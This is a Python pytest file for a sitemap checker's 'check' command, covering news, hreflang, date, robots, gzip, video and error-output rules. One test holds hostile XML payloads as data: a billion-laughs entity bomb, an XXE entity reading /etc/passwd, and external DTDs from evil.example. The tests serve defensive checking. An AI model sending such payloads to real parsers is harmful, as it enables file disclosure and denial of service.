"""``check`` to what engines require: rules the schemas leave out, messages that name the
real problem, and where problems are printed.

Each sitemap is written by hand, so that one case breaks one rule; the pages it lists are in
the checked folder.
"""

from __future__ import annotations

import errno
import gzip
import json
import os
import re
import shutil
import signal
from datetime import datetime, timezone
from pathlib import Path

import pytest

from sitemap_plugins import SitemapConfig
from sitemap_plugins.cli import main
from sitemap_plugins.products.check.checker import check_site
from tests.foreign_sitemaps import FOREIGN, GENERATORS

BASE = "https://example.org/"
NOW = datetime(2024, 5, 7, 12, tzinfo=timezone.utc)
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
NAMESPACES = ('xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
              'xmlns:xhtml="http://www.w3.org/1999/xhtml" '
              'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"')
PAGE = "<!doctype html><html lang='en'><head><title>{name}</title>{head}</head><body></body>"


def _site(tmp_path: Path, urls: str, *, heads: dict[str, str] | None = None,
          name: str = "sitemap.xml") -> Path:
    """A site of pages a.html, b.html and fr.html and a urlset of ``urls`` in ``name``."""
    site = tmp_path / "site"
    site.mkdir(exist_ok=True)
    for page in ("a", "b", "fr"):
        head = (heads or {}).get(page, "")
        (site / f"{page}.html").write_text(PAGE.format(name=page, head=head), "utf-8")
    (site / name).write_text(f"{DECLARATION}<urlset {NAMESPACES}>\n{urls}</urlset>\n", "utf-8")
    return site


def _problems(site: Path, **now: datetime) -> list[tuple[str, bool]]:
    """Each problem's line and whether it is a warning (``now=``: the check's day); but the
    note that these hand-written sitemaps are not this tool's (see test_another_tools_*)."""
    problems, _ = check_site(site, SitemapConfig.from_mapping({"base_url": BASE}), **now)
    return [(str(problem), getattr(problem, "warning", False)) for problem in problems
            if "not by sitemap-plugins" not in problem.message]


def _errors(site: Path, **now: datetime) -> list[str]:
    return [line for line, warning in _problems(site, **now) if not warning]


NEWS = ("<news:news><news:publication><news:name>Daily</news:name><news:language>en"
        "</news:language></news:publication><news:publication_date>2024-05-06"
        "</news:publication_date>{title}</news:news>")


# --- passed, but wrong -----------------------------------------------------------------------

@pytest.mark.parametrize("title", ["", "<news:title></news:title>", "<news:title> \n</news:title>"],
                         ids=["missing", "empty", "blank"])
@pytest.mark.parametrize("where", ["sitemap.xml", "sitemap-news.xml"])
def test_a_news_entry_needs_a_title_wherever_it_stands(tmp_path: Path, title: str,
                                                      where: str) -> None:
    """Google News requires news:title, which sitemap-news.xsd leaves optional: an entry
    without one fails, in the news sitemap or in sitemap.xml."""
    url = f"<url><loc>{BASE}a.html</loc>{NEWS.format(title=title)}</url>\n"
    site = _site(tmp_path, url if where == "sitemap.xml" else f"<url><loc>{BASE}a.html</loc></url>")
    if where == "sitemap-news.xml":
        _site(tmp_path, url, name=where)
    errors = _errors(site)
    assert [line for line in errors if "news:title is missing or empty" in line], errors
    assert all(line.startswith(f"{where}: ") for line in errors), errors
    assert _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
                                   f"{NEWS.format(title='<news:title>T</news:title>')}</url>",
                         name=where)) == []


BAD_HREFLANGS = ["english", "deutsch", "en_US", "e n", "", "en-", "12", "fr-FRANCE-",
                 "x-", "i-", "x" * 80]
GOOD_HREFLANGS = ["en", "fr", "en-GB", "zh-Hant-TW", "es-419", "x-default", "sr-Latn-RS"]


def _alternates(code: str) -> str:
    return (f'<url><loc>{BASE}a.html</loc>'
            f'<xhtml:link rel="alternate" hreflang="{code}" href="{BASE}a.html"/>'
            f'<xhtml:link rel="alternate" hreflang="de" href="{BASE}fr.html"/></url>\n'
            f'<url><loc>{BASE}fr.html</loc>'
            f'<xhtml:link rel="alternate" hreflang="{code}" href="{BASE}a.html"/>'
            f'<xhtml:link rel="alternate" hreflang="de" href="{BASE}fr.html"/></url>\n')


@pytest.mark.parametrize("code", BAD_HREFLANGS)
def test_an_hreflang_that_is_no_language_tag_fails(tmp_path: Path, code: str) -> None:
    """``english`` fits xs:language but is no BCP 47 tag an engine reads: check fails it."""
    errors = _errors(_site(tmp_path, _alternates(code)))
    assert any("is not a BCP 47 language tag" in line for line in errors), errors


@pytest.mark.parametrize("code", GOOD_HREFLANGS)
def test_a_language_tag_passes_as_hreflang(tmp_path: Path, code: str) -> None:
    """Language tags of every shape engines take pass."""
    assert _errors(_site(tmp_path, _alternates(code))) == []


@pytest.mark.parametrize("fragment", ["#top", "#", "#a/b?c"])
def test_a_listed_url_with_a_fragment_fails(tmp_path: Path, fragment: str) -> None:
    """A <loc> (and a line of the text sitemap) naming a place in a page is no page URL."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html{fragment}</loc></url>\n")
    (site / "sitemap.txt").write_text(f"{BASE}a.html{fragment}\n", "utf-8")
    errors = _errors(site)
    assert [line.split(":", 1)[0] for line in errors if "has a fragment" in line] == [
        "sitemap.xml", "sitemap.txt"], errors


@pytest.mark.parametrize("date", ["2054-05-07", "2024-05-09", "2024-05-08T13:00:01Z",
                                  "9999-12-31T23:59:59+14:00"])
@pytest.mark.parametrize("element", ["lastmod", "index-lastmod", "news"])
def test_a_date_in_the_future_is_a_warning(tmp_path: Path, date: str, element: str) -> None:
    """A lastmod (of a page or of an index's part) or a news date more than a day after the
    check's day is a warning (engines distrust it; the protocol forbids no date, so the
    sitemap is still valid); one within the day passes."""
    def urlset(when: str) -> str:
        if element == "news":
            news = NEWS.format(title="<news:title>T</news:title>").replace("2024-05-06", when)
            return f"<url><loc>{BASE}a.html</loc>{news}</url>\n"
        lastmod = f"<lastmod>{when}</lastmod>" if element == "lastmod" else ""
        return f"<url><loc>{BASE}a.html</loc>{lastmod}</url>\n"

    def site_with(when: str) -> Path:
        if element != "index-lastmod":
            return _site(tmp_path, urlset(when))
        site = _site(tmp_path, urlset(when), name="sitemap-1.xml")
        (site / "sitemap.xml").write_text(
            f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<sitemap><loc>{BASE}sitemap-1.xml</loc><lastmod>{when}</lastmod></sitemap>"
            "</sitemapindex>\n", "utf-8")
        return site

    problems = _problems(site_with(date), now=NOW)
    assert [line for line, warning in problems if "lies in the future" in line and warning]
    assert _errors(site_with(date), now=NOW) == []
    assert _problems(site_with("2024-05-08T11:00:00Z"), now=NOW) == []
    if date > "2050":  # without now=, the clock's own now
        assert [line for line, _ in _problems(site_with(date)) if "lies in the future" in line]


@pytest.mark.parametrize("robots", ["noindex", "NOINDEX, follow", "none", "index,noindex"])
def test_a_listed_page_that_says_noindex_fails(tmp_path: Path, robots: str) -> None:
    """A listed page whose own robots meta tag says noindex: engines report it as an error."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n<url><loc>{BASE}b.html</loc>"
                           "</url>\n",
                 heads={"a": f"<meta name='robots' content='{robots}'>"})
    errors = _errors(site)
    assert errors == [(f"sitemap.xml: <url> #1 ({BASE}a.html): the page 'a.html' says noindex "
                      "in its robots meta tag; a sitemap lists only pages to index (build "
                      "leaves it out)")]


@pytest.mark.parametrize(("rules", "failed"), [
    ("Disallow: /a.html", ["a.html"]), ("Disallow: /", ["a.html", "b.html"]),
    ("Disallow: /b\nAllow: /b.html", []), ("Disallow:", []), ("Disallow: /*.pdf$", [])],
    ids=["one-page", "everything", "allowed-again", "nothing", "another-type"])
def test_a_listed_page_robots_txt_disallows_fails(tmp_path: Path, rules: str,
                                                  failed: list[str]) -> None:
    """The build leaves out what the site's robots.txt disallows for all crawlers (Google:
    "Submitted URL blocked by robots.txt"): check fails it too, once, by the same parser."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n<url><loc>{BASE}b.html</loc>"
                           "</url>\n")
    (site / "sitemap.txt").write_text(f"{BASE}a.html\n{BASE}b.html\n", "utf-8")
    (site / "robots.txt").write_text(f"User-agent: *\n{rules}\n\nSitemap: {BASE}sitemap.xml\n",
                                     "utf-8")
    assert _errors(site) == [
        (f"sitemap.xml: <url> #{number} ({BASE}{page}): robots.txt disallows '{BASE}{page}'; a "
         "sitemap lists only pages to index (build leaves it out)")
        for number, page in enumerate(["a.html", "b.html"], start=1) if page in failed]


@pytest.mark.parametrize(("page", "head", "says"), [
    ("404.html", "", "is the site's 404 page"),
    ("docs/404.htm", "", "is the site's 404 page"),
    ("404/index.html", "", "is the site's 404 page"),
    ("old.html", "<meta http-equiv='refresh' content='0; url=/a.html'>",
     "redirects elsewhere (a meta refresh)"),
    ("old.html", "<meta http-equiv='Refresh' content='3;URL=https://other.example/'>",
     "redirects elsewhere (a meta refresh)"),
    ("same.html", "<meta http-equiv='refresh' content='60'>", None),
    ("not404.html", "", None),
], ids=["404", "nested-404-htm", "404-folder", "refresh", "refresh-off-site", "self-reload",
        "a-name-ending-in-404"])
def test_a_listed_page_that_build_leaves_out_fails(tmp_path: Path, page: str, head: str,
                                                   says: str | None) -> None:
    """check fails what build leaves out by the page itself, by the build's own rules: the
    404 page (entry.rules.is_not_found_page) and a redirect stub (a meta refresh elsewhere)."""
    site = _site(tmp_path, f"<url><loc>{BASE}{page}</loc></url>\n")
    (site / page).parent.mkdir(parents=True, exist_ok=True)
    (site / page).write_text(PAGE.format(name=page, head=head), "utf-8")
    expected = [] if says is None else [
        (f"sitemap.xml: <url> #1 ({BASE}{page}): the page {page!r} {says}; a sitemap lists only "
         "pages to index (build leaves it out)")]
    assert _errors(site) == expected


@pytest.mark.parametrize(("href", "elsewhere"), [
    ("b.html", True), (f"{BASE}b.html", True), ("https://other.example/a.html", True),
    ("a.html", False), (f"{BASE}a.html", False), ("./a.html#top", False),
    ("HTTPS://EXAMPLE.ORG/a.html", False)])
def test_a_listed_page_whose_canonical_names_another_is_a_warning(
    tmp_path: Path, href: str, *, elsewhere: bool
) -> None:
    """A listed page whose canonical names another page is reported (a warning: engines
    leave it out as a duplicate); a canonical naming the page itself is not."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n",
                 heads={"a": f"<link rel='canonical' href='{href}'>"})
    problems = _problems(site)
    warned = [line for line, warning in problems if warning and "canonical" in line]
    assert bool(warned) is elsewhere, problems
    assert [line for line, warning in problems if not warning] == []


# --- messages that name the real problem -----------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">\n'
    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">\n]>\n')
XXE = '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
PARAMETER = '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n'
QUOTED = "<!DOCTYPE urlset [<!ENTITY a \"]>\"> <!ENTITY b '>'>]>\n"


@pytest.mark.parametrize("doctype", [BILLION_LAUGHS, XXE, PARAMETER, QUOTED,
                                     '<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">\n'],
                         ids=["billion-laughs", "xxe", "parameter-entity", "quoted", "external"])
def test_a_doctype_is_named_as_such(tmp_path: Path, doctype: str) -> None:
    """Entity bombs and external entities are reported as a DOCTYPE, the one problem, not as
    text that is not entity-escaped."""
    site = _site(tmp_path, "")
    (site / "sitemap.xml").write_text(
        f"{DECLARATION}{doctype}<urlset {NAMESPACES}><url><loc>{BASE}a.html&lol3;&xxe;</loc>"
        "</url></urlset>\n", "utf-8")
    errors = _errors(site)
    assert len(errors) == 1, errors
    assert "has a DOCTYPE" in errors[0]
    assert "entities" in errors[0]


@pytest.mark.parametrize("damage", ["not-gzip", "truncated", "bad-crc"])
def test_a_corrupt_gz_part_is_named_as_gzip(tmp_path: Path, damage: str) -> None:
    """An index naming a .gz part that does not inflate says so, not "not UTF-8"."""
    site = _site(tmp_path, "")
    packed = gzip.compress(f"{DECLARATION}<urlset {NAMESPACES}><url><loc>{BASE}a.html</loc>"
                           "</url></urlset>\n".encode(), mtime=0)
    data = {"not-gzip": b"\x1f\x8b\x08garbage" + bytes(range(256)),
            "truncated": packed[: len(packed) // 2],
            "bad-crc": packed[:-8] + b"\0\0\0\0" + packed[-4:]}[damage]
    (site / "sitemap-1.xml.gz").write_bytes(data)
    (site / "sitemap.xml").write_text(
        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<sitemap><loc>{BASE}sitemap-1.xml.gz</loc></sitemap></sitemapindex>\n", "utf-8")
    errors = _errors(site)
    assert [line for line in errors if line.startswith("sitemap-1.xml.gz: is not a valid gzip "
                                                       "file")], errors
    assert not [line for line in errors if "UTF-8" in line], errors


def test_a_good_gz_part_is_read(tmp_path: Path) -> None:
    """A .gz part of an index is inflated and its URLs checked like any part."""
    site = _site(tmp_path, "")
    (site / "sitemap-1.xml.gz").write_bytes(gzip.compress(
        f"{DECLARATION}<urlset {NAMESPACES}><url><loc>{BASE}a.html</loc></url><url><loc>"
        f"{BASE}missing.html</loc></url></urlset>\n".encode(), mtime=0))
    (site / "sitemap.xml").write_text(
        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<sitemap><loc>{BASE}sitemap-1.xml.gz</loc></sitemap></sitemapindex>\n", "utf-8")
    assert _errors(site) == [(f"sitemap-1.xml.gz: <url> #2 ({BASE}missing.html): no file in "
                             f"the site serves '{BASE}missing.html'")]


@pytest.mark.parametrize("packed", [False, True])
def test_a_text_part_of_an_index_is_read_as_text(tmp_path: Path, packed: bool) -> None:
    """An index may name text sitemaps (sitemaps.org: any sitemap format), gzipped or not:
    each is read as text, its URLs checked, never parsed as XML."""
    site = _site(tmp_path, "")
    text = f"{BASE}a.html\n{BASE}missing.html\n".encode()
    part = "sitemap-1.txt.gz" if packed else "sitemap-1.txt"
    (site / part).write_bytes(gzip.compress(text, mtime=0) if packed else text)
    (site / "sitemap.xml").write_text(
        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<sitemap><loc>{BASE}{part}</loc></sitemap></sitemapindex>\n", "utf-8")
    errors = _errors(site)
    assert [line for line in errors if "missing.html" in line], errors
    assert not [line for line in errors if "XML" in line or "declaration" in line], errors


def test_a_text_sitemap_with_windows_line_ends_is_read_with_a_warning(tmp_path: Path) -> None:
    """CR LF after every URL (a file written on Windows): the URLs are checked without the CR,
    and one warning says so; a lone CR inside a line is still a problem."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url><url><loc>{BASE}b.html</loc></url>")
    (site / "sitemap.txt").write_bytes(f"{BASE}a.html\r\n{BASE}b.html\r\n".encode())
    assert _problems(site) == [("sitemap.txt: ends its lines with CR LF; better LF alone", True)]
    (site / "sitemap.txt").write_bytes(f"{BASE}a.html\r\n{BASE}b.html\n".encode())
    assert "sitemap.txt: line 1: must hold one URL and nothing else" in _errors(site)


@pytest.mark.parametrize("loc", ["HTTPS://EXAMPLE.ORG/a.html", "https://Example.Org/a.html",
                                 "Https://example.ORG/a.html"])
def test_scheme_and_host_in_any_case_are_the_same_url(tmp_path: Path, loc: str) -> None:
    """Scheme and host are case-insensitive: such a <loc> is the page's URL, and a second
    spelling of it is a duplicate."""
    assert _errors(_site(tmp_path, f"<url><loc>{loc}</loc></url>\n")) == []
    errors = _errors(_site(tmp_path, f"<url><loc>{loc}</loc></url>\n<url><loc>{BASE}a.html"
                                     "</loc></url>\n"))
    assert len(errors) == 1
    assert "duplicate URL" in errors[0]


# --- an unreadable folder, a byte order mark ------------------------------------------------

@pytest.mark.parametrize("call", ["stat", "scandir"])
def test_a_folder_check_may_not_read_is_one_line(tmp_path: Path, call: str,
                                                 monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """A site folder that cannot be entered or listed: exit 1, one line saying so, no
    traceback, never "sitemap.xml is missing". (Denied by hand: root reads everything.)"""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
    real = getattr(os, call)

    def denied(path: object, *args: object, **kwargs: object) -> object:
        if os.fspath(path) in (str(site), os.fspath(site)):  # type: ignore[arg-type]
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))  # type: ignore[arg-type]
        return real(path, *args, **kwargs)

    monkeypatch.setattr(os, call, denied)
    code = main(["check", str(site), "--base-url", BASE])
    monkeypatch.undo()
    out, err = capsys.readouterr()
    assert code == 1
    assert err.splitlines() == [(f"error: {site}: cannot be read: Permission denied; check "
                                "needs to read the site folder")], err
    assert "Traceback" not in out + err


@pytest.mark.parametrize("name", ["sitemap.xml", "sitemap.txt"])
def test_a_byte_order_mark_is_a_warning(tmp_path: Path, name: str,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    """A UTF-8 byte order mark is allowed by XML and read by engines: a warning, exit 0."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
    (site / "sitemap.txt").write_text(f"{BASE}a.html\n", "utf-8")
    (site / name).write_bytes(b"\xef\xbb\xbf" + (site / name).read_bytes())
    assert main(["check", str(site), "--base-url", BASE]) == 0
    out, err = capsys.readouterr()
    assert any(line.startswith(f"warning: {name}: starts with a byte order mark")
               for line in err.splitlines()), err
    assert out == "Checked 1 URL: no problems, 2 warnings\n"  # and: written by hand
    assert main(["check", str(site), "--base-url", BASE, "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is True
    assert [p["level"] for p in report["problems"]] == ["warning", "warning"]


# --- whose sitemap it is --------------------------------------------------------------------



@pytest.mark.parametrize(("folder", "name", "who"), GENERATORS, ids=lambda value: value if "/" not in value and " " not in value else "")
def test_another_tools_sitemap_is_named_and_may_fail_the_check(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], folder: str, name: str, who: str,
) -> None:
    """A forgotten build step ships the generator's own sitemap: check says so in a warning
    naming it (exit 0 when nothing else is wrong), and fails on it with --fail-on-foreign."""
    site = tmp_path / "site"
    shutil.copytree(FOREIGN / folder, site)
    for path in re.findall(r"<loc>https://example\.org/([^<]*)</loc>", "".join(
            p.read_text() for p in site.glob("*.xml"))):
        page = site / (path + "index.html" if path.endswith("/") or not path else path)
        if not page.exists() and page.suffix != ".xml":
            page.parent.mkdir(parents=True, exist_ok=True)
            page.write_text("<html><head><title>A page</title></head></html>")
    line = (f"{name}: was written by {who}, not by sitemap-plugins: run its build after the "
            "site's, and turn the other sitemap off")
    flags = ["check", str(site), "--base-url", BASE, "--sitemap-name", name[:-4]]
    assert main(flags) == 0
    assert capsys.readouterr().err.splitlines() == [f"warning: {line}"]
    assert main([*flags, "--fail-on-foreign"]) == 1
    assert capsys.readouterr().err.splitlines() == [line]


def test_a_sitemap_this_tool_wrote_is_not_another_tools(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """After a build (which replaced Jekyll's sitemap), check is silent even when told to fail."""
    site = tmp_path / "site"
    shutil.copytree(FOREIGN / "jekyll", site)
    assert main(["build", str(site), "--base-url", BASE, "-q"]) == 0
    capsys.readouterr()
    assert main(["check", str(site), "--base-url", BASE, "--fail-on-foreign"]) == 0
    assert capsys.readouterr().err == ""


def test_an_unknown_encoding_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                         ) -> None:
    """An XML declaration naming an encoding Python does not know is a problem, not a
    LookupError out of expat."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitemap.xml").write_text(
        f'<?xml version="1.0" encoding="T"?><urlset {NAMESPACES}/>', "utf-8")
    assert main(["check", str(site), "--base-url", BASE]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "sitemap.xml: line 1: declares unknown encoding: T"]


# --- where problems go ----------------------------------------------------------------------

@pytest.mark.parametrize("json_flag", [[], ["--json"]], ids=["text", "json"])
def test_problems_go_to_stderr_and_the_summary_to_stdout(
    tmp_path: Path, json_flag: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """As --help and the docs say: problems on stderr, so ``check --json > report.json``
    still shows them in a CI log; stdout holds only the summary (one JSON object)."""
    site = _site(tmp_path, f"<url><loc>{BASE}missing.html</loc></url>\n")
    assert main(["check", str(site), "--base-url", BASE, *json_flag]) == 1
    out, err = capsys.readouterr()
    problem = f"sitemap.xml: <url> #1 ({BASE}missing.html): no file in the site serves"
    assert err.startswith(problem), err
    assert problem not in out
    if json_flag:
        report = json.loads(out)
        assert report["ok"] is False
        assert [p["level"] for p in report["problems"]] == ["error", "warning"]
    else:
        assert out == "Checked 1 URL: 1 problem, 1 warning\n"


# --- never a hang ---------------------------------------------------------------------------

@pytest.mark.parametrize("filler", ["<", "<a ", '<a "', "<!--", "<?x", "<![CDATA[", "<!x '"],
                         ids=["lt", "tag", "quote", "comment", "pi", "cdata", "declaration"])
def test_a_megabyte_of_unclosed_markup_is_read_at_once(tmp_path: Path, filler: str) -> None:
    """Unclosed markup repeated over a megabyte (minutes once: the escape scan was quadratic)
    is reported as not well-formed within seconds."""
    site = _site(tmp_path, "")
    (site / "sitemap.xml").write_text(
        f"{DECLARATION}<urlset {NAMESPACES}>" + filler * (1_000_000 // len(filler)), "utf-8")

    def stop(_signal: int, _frame: object) -> None:
        pytest.fail("check took more than 20 s: not linear")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(20)
    try:
        errors = _errors(site)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert [line for line in errors if "is not well-formed XML" in line], errors


def test_a_byte_order_mark_does_not_hide_a_missing_declaration(tmp_path: Path) -> None:
    """After a byte order mark the XML declaration should still come first (a warning: XML
    1.0 makes it optional)."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
    text = (site / "sitemap.xml").read_text("utf-8").removeprefix(DECLARATION)
    (site / "sitemap.xml").write_bytes(b"\xef\xbb\xbf" + text.encode())
    assert _problems(site) == [
        (("sitemap.xml: starts with a byte order mark; better without: the XML declaration at "
         "byte 0"), True),
        (("sitemap.xml: does not start with the XML declaration after its byte order mark; "
         "better with it"), True)]


@pytest.mark.parametrize("element", ["content_loc", "player_loc"])
def test_a_video_location_that_is_the_page_itself_fails(tmp_path: Path, element: str) -> None:
    """Google: a video's content or player location must not be the page's own <loc>."""
    video = ('<video:video xmlns:video="http://www.google.com/schemas/sitemap-video/1.1">'
             f"<video:thumbnail_loc>{BASE}p.jpg</video:thumbnail_loc><video:title>V"
             "</video:title><video:description>D</video:description>"
             f"<video:{element}>{{}}</video:{element}></video:video>")
    errors = _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
                                     f"{video.format(BASE + 'a.html')}</url>\n"))
    assert errors == [(f"sitemap.xml: <url> #1 ({BASE}a.html): video:{element} is the page "
                      "itself; Google requires the video's own URL")]
    assert _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
                                   f"{video.format(BASE + 'v.mp4')}</url>\n")) == []


def test_an_index_naming_a_sitemap_twice_says_so(tmp_path: Path) -> None:
    """The schemas allow it; it is still a fault of the index, named there, not reported as
    every URL of the part being a duplicate of itself."""
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>", name="part.xml")
    entry = f"<sitemap><loc>{BASE}part.xml</loc></sitemap>"
    (site / "sitemap.xml").write_text(
        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"{entry}{entry.replace('https://example.org', 'HTTPS://Example.ORG')}"
        "</sitemapindex>\n", "utf-8")
    assert _errors(site) == [
        ("sitemap.xml: <sitemap> #2: names 'https://example.org/part.xml' again (as <sitemap> "
        "#1 does); name each sitemap once")]


ZERO_SECONDS = "video:duration is 0; Google takes 1 to 28,800 seconds (leave it out when unknown)"


@pytest.mark.parametrize(("extra", "error"), [
    ("<video:duration>0</video:duration>", ZERO_SECONDS),
    ("<video:duration> +00 </video:duration>", ZERO_SECONDS),
    ("<video:duration>1</video:duration>", None),
    (f"<video:uploader>{'u' * 256}</video:uploader>",
     "video:uploader has 256 characters; Google takes at most 255"),
    (f"<video:uploader>{'u' * 255}</video:uploader>", None),
], ids=["zero", "zero-written-long", "one-second", "long-uploader", "uploader-at-limit"])
def test_google_video_limits_beyond_the_schema(tmp_path: Path, extra: str,
                                               error: str | None) -> None:
    """sitemap-video.xsd takes a duration of 0 and an uploader's name of any length; Google's
    video sitemap page asks for 1 to 28,800 seconds and at most 255 characters."""
    video = ('<video:video xmlns:video="http://www.google.com/schemas/sitemap-video/1.1">'
             f"<video:thumbnail_loc>{BASE}p.jpg</video:thumbnail_loc><video:title>V"
             "</video:title><video:description>D</video:description>"
             f"<video:content_loc>{BASE}v.mp4</video:content_loc>{extra}</video:video>")
    errors = _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>{video}</url>\n"))
    assert errors == ([f"sitemap.xml: <url> #1: {error}"] if error else [])


@pytest.mark.parametrize("element", [
    "<video:duration>{}</video:duration>", "<video:view_count>{}</video:view_count>",
    '<video:content_segment_loc duration="{}">https://example.org/s.mp4</video:content_segment_loc>',
])
@pytest.mark.parametrize("digits", ["1" * 5_000, "0" * 5_000 + "5"], ids=["huge", "padded"])
def test_a_whole_number_of_thousands_of_digits_is_read(tmp_path: Path, element: str,
                                                       digits: str) -> None:
    """Python's int() refuses more than 4,300 digits: such a number is judged by its value
    (too large for a duration, or 5 written long), never a traceback."""
    video = ('<video:video xmlns:video="http://www.google.com/schemas/sitemap-video/1.1">'
             f"<video:thumbnail_loc>{BASE}p.jpg</video:thumbnail_loc><video:title>V"
             "</video:title><video:description>D</video:description>"
             f"<video:content_loc>{BASE}v.mp4</video:content_loc>{element.format(digits)}"
             "</video:video>")
    errors = _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>{video}</url>\n"))
    if digits.startswith("1") and "view_count" not in element:  # it has no upper bound
        assert len(errors) == 1
        assert "is not a whole number from 0" in errors[0]
    else:
        assert errors == []


@pytest.mark.parametrize("bad", ["https://[zz]/v.mp4", "https://[::1/v.mp4",
                                 "https://example.org]/v.mp4"])
def test_a_url_with_a_broken_bracketed_host_is_a_problem_not_a_traceback(
        tmp_path: Path, bad: str) -> None:
    """A bracketed host that is no IP literal is no well-formed URL: check names it, in a
    loc, a video location or a line of sitemap.txt, and carries on."""
    video = ('<video:video xmlns:video="http://www.google.com/schemas/sitemap-video/1.1">'
             f"<video:thumbnail_loc>{BASE}p.jpg</video:thumbnail_loc><video:title>V"
             "</video:title><video:description>D</video:description>"
             f"<video:content_loc>{bad}</video:content_loc></video:video>")
    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc>{video}</url>\n")
    assert _errors(site) == [(f"sitemap.xml: line 3: video:content_loc {bad!r} is not a "
                             "well-formed URL (RFC 3986: a host, brackets only around it)")]
    (site / "sitemap.txt").write_text(f"{BASE}a.html\n{bad}\n", "utf-8")
    assert any(f"sitemap.txt: line 2: URL {bad!r} is not a well-formed URL" in error
               for error in _errors(site))


@pytest.mark.parametrize("name", ["sitemap.xml", "sitemap-news.xml"])
def test_more_than_1000_news_articles_in_any_sitemap_fail(tmp_path: Path, name: str) -> None:
    """Google takes at most 1,000 news:news in one sitemap, whichever file holds them (only
    sitemap-news.xml was counted)."""
    news = NEWS.format(title="<news:title>T</news:title>")
    many = "".join(f"<url><loc>{BASE}a.html?n={n}</loc>{news}</url>\n" for n in range(1_001))
    site = _site(tmp_path, f"<url><loc>{BASE}b.html</loc></url>\n")
    _site(tmp_path, many, name=name)
    assert f"{name}: 1,001 news:news articles; Google takes at most 1,000 in one sitemap" \
        in _errors(site, now=NOW)
    _site(tmp_path, many.split("\n", 1)[1], name=name)
    assert not [line for line in _errors(site, now=NOW) if "news:news articles" in line]
